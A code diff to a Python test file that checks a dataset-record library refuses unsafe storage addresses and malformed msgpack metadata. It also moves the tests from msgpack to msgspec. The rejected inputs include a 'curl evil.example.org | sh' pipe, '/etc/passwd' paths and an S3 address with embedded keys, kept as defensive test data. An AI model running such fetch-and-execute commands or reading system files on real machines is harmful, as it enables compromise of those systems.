@@ -3,13 +3,13 @@
 from __future__ import annotations
 
 from collections.abc import Callable
+from contextlib import suppress
 from typing import Any
 
-import msgpack
+import msgspec
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from record_data import WHERE, changed, record, spots
 
 from atdata.atmosphere.records.collections import record_cid
 from atdata.atmosphere.records.dataset import dataset_from_record
@@ -18,6 +18,7 @@ from atdata.atmosphere.records.lens import code_lens_from_record, lens_from_reco
 from atdata.atmosphere.records.schema import schema_from_record
 from atdata.errors import RecordError
 from atdata_schema.data import Link
+from record_data import WHERE, changed, record, spots
 
 URL = ("storage", "shards", 0, "url")
 Steps = tuple[str | int, ...]
@@ -37,11 +38,11 @@ def refused(value: Any) -> str:
     [
         ("pipe:curl evil.example.org | sh", "'pipe' is no kind of address"),
         ("file:///etc/passwd", "'file' is no kind of address"),
-        ("/etc/passwd", "storage.shards[0].url"),
+        ("/etc/passwd", "no kind of address"),
         ("hf://datasets/private/x.tar", "'hf' is no kind of address"),
         ("gs://bucket/x.tar", "'gs' is no kind of address"),
         ("http://data.example.org/x.tar", "'http' is no kind of address"),
-        ("HTTPS://data.example.org/x.tar", "storage.shards[0].url"),
+        ("HTTPS://data.example.org/x.tar", "'HTTPS' is no kind of address"),
         ("ftp://data.example.org/x.tar", "'ftp' is no kind of address"),
         ("at://did:plc:ewvi7nxzyoun6zhxrhs64oiz/blob/x", "'at' is no kind of address"),
         ("s3://AKIA:secret@bucket/x.tar", "keys in it"),
@@ -136,8 +137,8 @@ def test_a_signed_address_is_not_shown() -> None:
         (("metadata",), b"\x82\xa1a\x01\xa1a\x02", "metadata: this is no msgpack map"),
         (("metadata",), b"\x81\x01\x02", "metadata: this is no msgpack map"),
         (("metadata",), b"\x81\xa1a\xc7\x00\x05", "metadata: a ExtType is no value of JSON"),
-        (("metadata",), msgpack.packb({"a": b"x"}), "metadata: a bytes is no value"),
-        (("metadata",), msgpack.packb({"a": float("inf")}), "metadata: inf is no number"),
+        (("metadata",), msgspec.msgpack.encode({"a": b"x"}), "metadata: a bytes is no value"),
+        (("metadata",), msgspec.msgpack.encode({"a": float("inf")}), "metadata: inf is no number"),
         (("metadata",), b"\x81\xa1a\xd9\x02\xff\xff", "metadata: this is no msgpack map"),
         (("metadata",), b"x" * 100_001, "metadata: 100001 bytes are too many"),
         (("metadata",), {"a": 0.5}, "metadata.a: 0.5 is a float"),
@@ -169,7 +170,9 @@ def test_splits_have_names_of_their_own() -> None:
 
 def test_a_blob_has_the_cid_of_its_bytes() -> None:
     cid = "bafyreih7f2i7u6hhzo5xbbdlzo2vlx7b3tk5cgxpkgxyvjrffjr4qsvsya"
-    value = changed(record("entry.release"), "storage", "blobs", 0, "blob", "ref", to={"$link": cid})
+    value = changed(
+        record("entry.release"), "storage", "blobs", 0, "blob", "ref", to={"$link": cid}
+    )
     assert "storage.blobs[0].blob.ref:" in refused(value)
     digest = changed(
         record("entry.release"), "storage", "blobs", 0, "checksum", "digest", to="0" * 64
@@ -229,26 +232,32 @@ _ANYTHING = st.recursive(
 )
 
 
+def refusal(read: Callable[[Any, str], object], value: Any) -> str | None:
+    """What a refusal says; anything else that is raised fails the test."""
+    try:
+        read(value, WHERE)
+    except RecordError as error:
+        return str(error)
+    return None
+
+
 @given(st.sampled_from(sorted(READERS)), st.data())
 def test_whatever_stands_anywhere_nothing_else_is_raised(name: str, data: st.DataObject) -> None:
     value: Any = RECORDS[name]
     for _ in range(data.draw(st.integers(1, 3))):
         try:
             value = changed(
-                value, *data.draw(st.sampled_from(SPOTS[name])), to=data.draw(_ANYTHING | st.just(...))
+                value,
+                *data.draw(st.sampled_from(SPOTS[name])),
+                to=data.draw(_ANYTHING | st.just(...)),
             )
         except (KeyError, IndexError, TypeError):
             continue  # the place went with an earlier change
-    try:
-        READERS[name](value, WHERE)
-    except RecordError as error:
-        assert str(error).startswith(WHERE)
-        assert str(error).isprintable()
+    said = refusal(READERS[name], value)
+    assert said is None or (said.startswith(WHERE) and said.isprintable())
 
 
 @given(_ANYTHING)
 def test_the_cid_of_anything(value: Any) -> None:
-    try:
+    with suppress(RecordError):
         assert record_cid({"a": value}).startswith("bafyrei")
-    except RecordError:
-        pass
